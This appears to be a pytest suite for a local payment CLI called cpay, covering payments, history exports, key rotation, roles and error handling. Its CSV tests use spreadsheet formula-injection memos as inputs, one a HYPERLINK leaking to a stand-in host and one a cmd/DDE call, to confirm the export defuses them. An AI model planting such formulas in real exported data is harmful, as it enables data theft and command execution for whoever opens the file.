"""The everyday commands through the real Typer app: exit codes, stdout and stderr apart.

Every test runs against a real local wallet in a temporary CPAY_HOME (file key store);
balances are read back through the CLI to prove what moved and what did not.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Cli

HISTORY_FIELDS = {
    "id",
    "created_at",
    "direction",
    "counterparty",
    "amount",
    "currency",
    "status",
    "memo",
}
HOSTILE_MEMO = "[bold red]x[/] \x1b[31mred"


def pay_bob(cli: Cli, amount: str = "12.50", *extra: str) -> dict[str, Any]:
    result = cli("pay", "@bob", amount, "DBL", "--yes", "-o", "json", *extra)
    assert result.exit_code == 0, result.stderr
    payment: dict[str, Any] = json.loads(result.stdout)
    return payment


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


# --- init, whoami, users -------------------------------------------------------------------


def test_init_creates_a_wallet_whose_admin_whoami_reports(cli: Cli) -> None:
    result = cli("init", "--handle", "alice", "-o", "json")

    assert result.exit_code == 0
    assert "Created wallet 'default'" in result.stderr
    created = json.loads(result.stdout)
    assert created["profile"] == "default"
    assert created["handle"] == "alice"
    assert created["role"] == "admin"
    assert created["keystore"] == "file"

    me = cli.json("whoami")
    assert me["handle"] == "@alice"
    assert me["role"] == "admin"
    assert me["key_id"] == created["key_id"]
    assert me["profile"] == "default"
    assert me["mode"] == "local"
    assert me["user_id"]


def test_init_twice_fails_and_changes_nothing(
    cli: Cli, initialized: dict[str, Any], cpay_home: Path
) -> None:
    before = snapshot(cpay_home)

    result = cli("init", "--handle", "mallory")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith("cpay: profile 'default' already exists")
    assert "--profile" in result.stderr
    assert snapshot(cpay_home) == before
    assert cli.json("whoami")["handle"] == "@alice"


def test_an_added_user_can_be_acted_as_with_the_as_option(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    result = cli("user", "add", "bob", "-o", "json")

    assert result.exit_code == 0
    assert "--as bob" in result.stderr
    added = json.loads(result.stdout)
    assert added["handle"] == "@bob"
    assert added["role"] == "user"

    bob = cli.json("--as", "bob", "whoami")
    assert bob["handle"] == "@bob"
    assert bob["role"] == "user"
    assert bob["key_id"] == added["key_id"] != initialized["key_id"]


def test_acting_as_a_user_whose_key_is_not_on_this_device_is_refused(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    result = cli("--as", "carol", "balance")

    assert result.exit_code == 4
    assert result.stdout == ""
    assert result.stderr.startswith("cpay: no device key for @carol")
    assert "@alice" in result.stderr


# --- pay -----------------------------------------------------------------------------------


def test_pay_with_yes_moves_money_and_prints_the_payment_as_json(funded: Cli) -> None:
    result = funded("pay", "@bob", "12.50", "DBL", "--yes", "-m", "lunch", "-o", "json")

    assert result.exit_code == 0
    assert "Pay 12.50 DBL from @alice to @bob" in result.stderr
    payment = json.loads(result.stdout)
    assert payment["id"]
    assert payment["status"] == "completed"
    assert payment["amount"] == "12.50"
    assert payment["currency"] == "DBL"
    assert payment["from"] == "@alice"
    assert payment["to"] == "@bob"
    assert payment["memo"] == "lunch"
    assert payment["replayed"] is False
    assert funded.available("alice") == "87.50"
    assert funded.available("bob") == "12.50"


def test_pay_without_yes_and_without_a_terminal_is_refused_and_moves_no_money(
    funded: Cli,
) -> None:
    result = funded("pay", "@bob", "12.50", "DBL")

    assert result.exit_code == 3
    assert result.stdout == ""
    assert "Pay 12.50 DBL from @alice to @bob" in result.stderr
    assert "cpay: a payment needs confirmation: re-run with --yes" in result.stderr
    assert funded.available("alice") == "100.00"
    assert funded.available("bob") == "0.00"


def test_payment_exceeding_the_balance_is_rejected_and_moves_no_money(funded: Cli) -> None:
    result = funded("pay", "@bob", "100.01", "DBL", "--yes")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert "cpay: insufficient funds" in result.stderr
    assert funded.available("alice") == "100.00"
    assert funded.available("bob") == "0.00"


def test_retrying_with_the_same_id_and_content_replays_the_original_payment(
    funded: Cli,
) -> None:
    first = pay_bob(funded, "12.50", "--id", "pay-00000001", "-m", "lunch")

    result = funded(
        "pay", "@bob", "12.50", "DBL", "--yes", "--id", "pay-00000001", "-m", "lunch", "-o", "json"
    )

    assert result.exit_code == 0
    assert "already made" in result.stderr
    replay = json.loads(result.stdout)
    assert replay["replayed"] is True
    assert replay["id"] == first["id"] == "pay-00000001"
    assert replay["created_at"] == first["created_at"]
    assert funded.available("alice") == "87.50"
    assert funded.available("bob") == "12.50"


@pytest.mark.parametrize(
    ("amount", "memo", "field"),
    [("12.51", "lunch", "amount"), ("12.50", "dinner", "memo")],
)
def test_reusing_an_id_with_different_content_is_rejected_naming_the_field(
    funded: Cli, amount: str, memo: str, field: str
) -> None:
    pay_bob(funded, "12.50", "--id", "pay-00000001", "-m", "lunch")

    result = funded("pay", "@bob", amount, "DBL", "--yes", "--id", "pay-00000001", "-m", memo)

    assert result.exit_code == 1
    assert result.stdout == ""
    assert f"cpay: payment id pay-00000001 was already used with a different {field}" in (
        result.stderr
    )
    assert funded.available("alice") == "87.50"
    assert funded.available("bob") == "12.50"


def test_paying_an_unknown_recipient_fails_and_moves_no_money(funded: Cli) -> None:
    result = funded("pay", "@carol", "1", "DBL", "--yes")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert "cpay: no user @carol" in result.stderr
    assert funded.available("alice") == "100.00"


# --- balance, history, show, verify --------------------------------------------------------


def test_balance_json_lists_each_currency_with_decimal_strings(funded: Cli) -> None:
    result = funded("balance", "-o", "json")

    assert result.exit_code == 0
    assert result.stderr == ""
    assert json.loads(result.stdout) == [
        {"currency": "DBL", "available": "100.00", "pending": "0.00"}
    ]


def test_history_json_lists_transactions_newest_first_with_stable_fields(funded: Cli) -> None:
    payment = pay_bob(funded, "12.50", "-m", "lunch")

    result = funded("history", "-o", "json")

    assert result.exit_code == 0
    assert result.stderr == ""
    rows = json.loads(result.stdout)
    assert isinstance(rows, list)
    assert [set(row) for row in rows] == [HISTORY_FIELDS, HISTORY_FIELDS]
    newest, oldest = rows
    assert newest["id"] == payment["id"]
    assert newest["created_at"] == payment["created_at"]
    assert (newest["direction"], newest["counterparty"]) == ("out", "@bob")
    assert (newest["amount"], newest["currency"]) == ("12.50", "DBL")
    assert (newest["status"], newest["memo"]) == ("completed", "lunch")
    assert (oldest["direction"], oldest["counterparty"], oldest["amount"]) == (
        "in",
        "treasury",
        "100.00",
    )


def test_history_csv_starts_with_the_json_field_names(funded: Cli) -> None:
    payment = pay_bob(funded, "12.50", "-m", "lunch, with a comma")

    result = funded("history", "-o", "csv")

    assert result.exit_code == 0
    header, *rows = list(csv.reader(io.StringIO(result.stdout)))
    assert header[0] == "created_at"
    assert set(header) == HISTORY_FIELDS  # the JSON field names
    assert len(rows) == 2
    assert rows[0][1:] == [
        "out",
        "@bob",
        "12.50",
        "DBL",
        "completed",
        "lunch, with a comma",
        payment["id"],
    ]


@pytest.mark.parametrize(
    "memo",
    ['=HYPERLINK("http://x.example/?leak","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"],
)
def test_a_memo_a_spreadsheet_would_run_is_exported_to_csv_defused(funded: Cli, memo: str) -> None:
    """The payer writes the memo the recipient exports: in CSV it cannot become a formula
    (a leading '), while JSON keeps the exact text."""
    pay_bob(funded, "1", "-m", memo)

    for who in ((), ("--as", "bob")):
        result = funded(*who, "history", "-o", "csv")
        assert result.exit_code == 0, result.stderr
        header, *rows = list(csv.reader(io.StringIO(result.stdout)))
        assert rows[0][header.index("memo")] == "'" + memo
        assert rows[0][header.index("amount")] == "1.00"
        assert funded.json(*who, "history")[0]["memo"] == memo


@pytest.mark.parametrize("memo", ["a\rb", "\rstarts", "line\nbreak", 'say "hi"'])
def test_a_memo_with_line_breaks_or_quotes_reads_back_from_csv_exactly(
    funded: Cli, memo: str
) -> None:
    payment = pay_bob(funded, "1", "-m", memo)

    result = funded("history", "-o", "csv")

    header, *rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    exported = "'" + memo if memo.startswith("\r") else memo  # a formula guard, see above
    assert rows[0][header.index("memo")] == exported
    assert rows[0][header.index("id")] == payment["id"]
    assert len(rows) == 2  # the payment and the mint: no row split in two


TABLE_HEADER = ["When", "Dir", "Counterparty", "Amount", "Cur", "Status", "Memo", "Id"]


def test_history_table_into_a_pipe_keeps_every_value_whole(funded: Cli) -> None:
    """Not a terminal (a pipe, a file, `grep`): nothing is cut to fit 80 columns."""
    memo = "a memo long enough to push the table well past eighty columns"
    payment = pay_bob(funded, "12.50", "-m", memo)

    lines = funded("history").stdout.splitlines()

    assert lines[0].split() == TABLE_HEADER
    newest = lines[1]
    assert len(newest) > 80
    assert newest.startswith(payment["created_at"] + "  out  @bob")
    assert newest.endswith(f"12.50  DBL  completed  {memo}  {payment['id']}")
    assert all(line == line.rstrip() for line in lines)


def test_history_with_nothing_to_show_says_so_on_stderr_and_keeps_the_data_format(
    funded: Cli,
) -> None:
    result = funded("history", "-q", "no-such-memo")

    assert result.exit_code == 0
    assert result.stdout.split() == TABLE_HEADER  # the header alone
    assert result.stderr.strip() == "No transactions match."
    as_json = funded("history", "-q", "no-such-memo", "-o", "json")
    assert (json.loads(as_json.stdout), as_json.stderr) == ([], "")


def test_history_of_a_new_wallet_says_there_is_nothing_yet(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    result = cli("history")

    assert result.exit_code == 0
    assert result.stderr.strip() == "No transactions yet."


def test_history_ndjson_prints_one_json_object_per_line(funded: Cli) -> None:
    pay_bob(funded)

    result = funded("history", "-o", "ndjson")

    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert len(lines) == 2
    objects = [json.loads(line) for line in lines]
    assert all(isinstance(obj, dict) and set(obj) == HISTORY_FIELDS for obj in objects)
    assert objects == funded.json("history")


def test_history_query_by_counterparty_keeps_only_their_transactions(funded: Cli) -> None:
    payment = pay_bob(funded)

    rows = funded.json("history", "--query", "@bob")

    assert [row["id"] for row in rows] == [payment["id"]]


def test_history_since_keeps_only_transactions_from_that_time_on(funded: Cli) -> None:
    pay_bob(funded)

    assert len(funded.json("history", "--since", "7d")) == 2
    assert len(funded.json("history", "--since", "2000-01-01")) == 2
    assert funded.json("history", "--since", "2999-01-01") == []


def test_show_prints_the_transaction_and_its_verified_receipt(funded: Cli) -> None:
    payment = pay_bob(funded, "12.50", "-m", "lunch")

    result = funded("show", payment["id"])

    assert result.exit_code == 0
    assert result.stderr == ""
    assert payment["id"] in result.stdout
    assert "signature verified" in result.stdout
    assert "@alice:DBL" in result.stdout
    assert "-12.50" in result.stdout


def test_show_json_includes_the_postings_and_a_verified_receipt(funded: Cli) -> None:
    payment = pay_bob(funded)

    shown = funded.json("show", payment["id"])

    assert shown["receipt"]["verified"] is True
    assert shown["postings"] == [
        {"account": "@alice:DBL", "amount": "-12.50", "currency": "DBL"},
        {"account": "@bob:DBL", "amount": "12.50", "currency": "DBL"},
    ]


def test_show_of_an_unknown_id_fails_and_points_to_history(funded: Cli) -> None:
    result = funded("show", "00000000-0000-0000-0000-000000000000")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith("cpay: no transaction '00000000-0000-0000-0000-000000000000'")
    assert "cpay history" in result.stderr


def test_show_does_not_reveal_someone_elses_transaction(funded: Cli) -> None:
    minted_to_alice = funded.json("history")[0]["id"]

    result = funded("--as", "bob", "show", minted_to_alice)

    assert result.exit_code == 1
    assert result.stdout == ""
    assert "no transaction" in result.stderr


def test_verify_reports_a_consistent_ledger(funded: Cli) -> None:
    pay_bob(funded)

    report = funded.json("verify")

    assert report["ok"] is True
    assert report["problems"] == []
    assert report["transactions_checked"] == 2
    assert report["receipts_checked"] == 2


# --- roles ---------------------------------------------------------------------------------


@pytest.mark.parametrize("yes", [["--yes"], []], ids=["yes", "would-ask"])
def test_minting_as_a_non_admin_is_denied_and_mints_nothing(funded: Cli, yes: list[str]) -> None:
    """Without --yes too it is refused (exit 4), not first previewed and asked for."""
    result = funded("--as", "bob", "admin", "mint", "@bob", "5", "DBL", *yes)

    assert result.exit_code == 4
    assert result.stdout == ""
    assert result.stderr.endswith("cpay: minting Dabloons needs the admin role; @bob is a user\n")
    if not yes:
        assert "Mint 5.00" not in result.stderr, "no preview of what cannot be done"
    assert funded.available("bob") == "0.00"


# --- keys ----------------------------------------------------------------------------------


def test_key_list_marks_the_key_this_device_signs_with(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    keys = cli.json("key", "list")

    assert [(k["key_id"], k["status"], k["this_device"], k["revoked_at"]) for k in keys] == [
        (initialized["key_id"], "active", True, None)
    ]


def test_profile_list_gives_scripts_the_users_as_a_list_and_people_a_line(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    assert cli("user", "add", "bob").exit_code == 0

    [profile] = cli.json("profile", "list")
    table = cli("profile", "list").stdout

    assert profile["users"] == ["@alice", "@bob"]
    assert "@alice, @bob" in table


def test_rotating_the_key_revokes_the_old_one_and_commands_keep_working(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    old = initialized["key_id"]

    result = cli("key", "rotate", "-o", "json")

    assert result.exit_code == 0
    rotated = json.loads(result.stdout)
    new = rotated["key_id"]
    assert rotated["revoked_key_id"] == old != new
    assert f"now signs with {new}" in result.stderr
    assert cli.json("whoami")["key_id"] == new
    keys = {k["key_id"]: (k["status"], k["this_device"]) for k in cli.json("key", "list")}
    assert keys == {old: ("revoked", False), new: ("active", True)}
    minted = cli("admin", "mint", "@alice", "5", "DBL", "--yes")
    assert minted.exit_code == 0, minted.stderr
    assert cli.available("alice") == "5.00"
    assert cli.json("verify")["ok"] is True


def test_revoking_your_only_active_key_is_refused(cli: Cli, initialized: dict[str, Any]) -> None:
    result = cli("key", "revoke", initialized["key_id"], "--yes")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert "only active key" in result.stderr
    assert "cpay key rotate" in result.stderr
    assert cli.json("whoami")["key_id"] == initialized["key_id"]


@pytest.mark.parametrize(
    ("key_id", "exit_code", "says"),
    [
        ("k00000000000000000000000", 1, "@alice has no key k00000000000000000000000: see"),
        ("", 2, "the key id is empty: name one from `cpay key list`"),
        ("  ", 2, "the key id is empty: name one from `cpay key list`"),
    ],
)
def test_revoking_a_key_you_do_not_have_says_so_before_asking(
    cli: Cli, initialized: dict[str, Any], key_id: str, exit_code: int, says: str
) -> None:
    result = cli("key", "revoke", key_id)  # no --yes, no terminal: it must not get to asking

    assert result.exit_code == exit_code
    assert result.stdout == ""
    assert result.stderr.startswith(f"cpay: {says}")
    assert [k["status"] for k in cli.json("key", "list")] == ["active"]


def second_device_for_alice() -> str:
    """Enroll another device key for @alice through the engine (an invite for her), as
    `cpay init` on a second machine would: the key id."""
    from cpay_cli.session import Session, profile_db_url
    from cpay_engine.adapters.crypto import SigningKey
    from cpay_engine.bootstrap import open_engine_at
    from cpay_engine.client import InProcessTransport, SignedClient

    s = Session()
    try:
        invite = s.api().create_invite(role=None, for_handle="alice")
        engine = open_engine_at(profile_db_url(s.profile), receipt_key=s.engine_key)
        key = SigningKey.generate()
        with contextlib.closing(SignedClient(InProcessTransport(engine), key)) as device:
            device.enroll(invite_code=invite.code, handle="alice")
    finally:
        s.close()
    return key.key_id


def test_revoking_a_key_without_yes_and_without_a_terminal_is_refused(
    cli: Cli, initialized: dict[str, Any]
) -> None:
    other = second_device_for_alice()
    result = cli("key", "revoke", other)

    assert result.exit_code == 3
    assert result.stdout == ""
    assert "--yes" in result.stderr
    assert [k["status"] for k in cli.json("key", "list")] == ["active", "active"]


# --- hostile text --------------------------------------------------------------------------


def test_markup_and_escape_codes_in_a_memo_show_literally_in_tables(funded: Cli) -> None:
    payment = pay_bob(funded, "1", "-m", HOSTILE_MEMO)

    for args in (["show", payment["id"]], ["history"], ["--as", "bob", "history"]):
        result = funded(*args)
        assert result.exit_code == 0, result.stderr
        assert "[bold red]x[/]" in result.stdout
        assert "\\x1b[31mred" in result.stdout
        assert "\x1b" not in result.stdout
        assert "\x1b" not in result.stderr


def test_markup_and_escape_codes_in_a_memo_stay_verbatim_in_json(funded: Cli) -> None:
    payment = pay_bob(funded, "1", "-m", HOSTILE_MEMO)

    assert payment["memo"] == HOSTILE_MEMO
    assert funded.json("history")[0]["memo"] == HOSTILE_MEMO
    assert funded.json("--as", "bob", "history")[0]["memo"] == HOSTILE_MEMO


def test_the_payment_preview_escapes_a_hostile_memo(funded: Cli) -> None:
    result = funded("pay", "@bob", "1", "DBL", "-m", HOSTILE_MEMO)

    assert result.exit_code == 3
    assert "[bold red]x[/]" in result.stderr
    assert "\x1b" not in result.stderr


# --- errors and tracebacks -----------------------------------------------------------------


def test_errors_show_a_traceback_only_with_debug(
    cli: Cli, initialized: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CPAY_KEY_PASSPHRASE", "not the passphrase")

    plain = cli("balance")
    debug = cli("--debug", "balance")

    assert plain.exit_code == debug.exit_code == 4
    assert "Traceback" not in plain.stderr
    assert plain.stderr.startswith("cpay: wrong passphrase")
    assert "Traceback" in debug.stderr


def test_history_finds_mints_by_the_treasury_it_lists_as_their_counterparty(
    funded: Cli,
) -> None:
    funded("pay", "--yes", "@bob", "1", "DBL")

    mints = funded.json("history", "-q", "@treasury")

    assert [(t["counterparty"], t["direction"]) for t in mints] == [("treasury", "in")]


def test_reusing_an_id_for_another_recipient_names_both_as_handles(funded: Cli) -> None:
    pay_bob(funded, "12.50", "--id", "pay-00000002")

    result = funded("pay", "@carol", "12.50", "DBL", "--yes", "--id", "pay-00000002")

    assert result.exit_code == 1
    assert "with a different recipient (was '@bob', now '@carol')" in result.stderr
